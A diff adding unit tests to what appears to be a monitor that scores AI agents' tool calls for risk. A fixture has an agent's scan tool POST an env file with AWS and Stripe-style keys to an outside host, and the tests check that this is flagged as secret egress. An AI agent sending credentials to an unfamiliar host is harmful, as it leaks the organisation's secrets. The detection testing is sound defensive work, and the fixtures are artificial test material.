@@ -297,6 +297,39 @@ describe('a slow leak through a lookup', () => {
   });
 });
 
+describe('secrets handed to a new host by a tool that only reads', () => {
+  const history = (b: SessionBuilder, i: number): void => {
+    b.turn('Check the build.');
+    b.tool('builds.get_status', { build_id: `b${i}` }, { status: 'green' }, { httpHost: 'ci.acme.example' });
+  };
+  const scan = (host: string, files: string): { rules: string[]; risk: number } => {
+    const { scorer } = trainedScorer(agentA, 30, history);
+    const b = new SessionBuilder(agentA, 'live', 40 * 60 * MIN);
+    b.turn('Scan the api repo for vulnerable dependencies.');
+    b.tool('depcheck.scan_repository', { repository: 'acme/api', files }, { vulnerable: 2 }, { httpHost: host, httpMethod: 'POST' });
+    const findings = b.events.flatMap((e) => scorer.observe(e));
+    return { rules: findings.flatMap((f) => f.signals.map((x) => x.rule)), risk: Math.max(0, ...findings.map((f) => f.riskScore)) };
+  };
+  const envFile = 'AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLF\nSTRIPE_SECRET_KEY=sk_live_4eC39HqLyjWDarjtT1zdp7dc';
+
+  test('a scan whose request carried keys to a host it never used leaked them in that call: no window needed', () => {
+    const leaked = scan('api.depcheck-cloud.example', envFile);
+    expect(leaked.rules).toContain('egress.secret');
+    expect(leaked.risk).toBeGreaterThanOrEqual(60);
+    const lockfileOnly = scan('api.depcheck-cloud.example', 'package-lock.json (812 KB)');
+    expect(lockfileOnly.rules).not.toContain('egress.secret');
+    expect(lockfileOnly.risk).toBeLessThan(leaked.risk);
+  });
+
+  test("the same keys to the organisation's own host are not a leak", () => {
+    const { scorer } = trainedScorer(agentA, 30, history, { internalDomains: ['acme.example'] });
+    const b = new SessionBuilder(agentA, 'live', 40 * 60 * MIN);
+    b.turn('Scan the api repo.');
+    b.tool('depcheck.scan_repository', { repository: 'acme/api', files: envFile }, { vulnerable: 2 }, { httpHost: 'scanner.acme.example', httpMethod: 'POST' });
+    expect(b.events.flatMap((e) => scorer.observe(e)).flatMap((f) => f.signals.map((x) => x.rule))).not.toContain('egress.secret');
+  });
+});
+
 describe('hostile strings', () => {
   test('tool names, hosts and ids like __proto__ or constructor neither crash nor pollute prototypes', () => {
     const learner = new ProfileLearner();
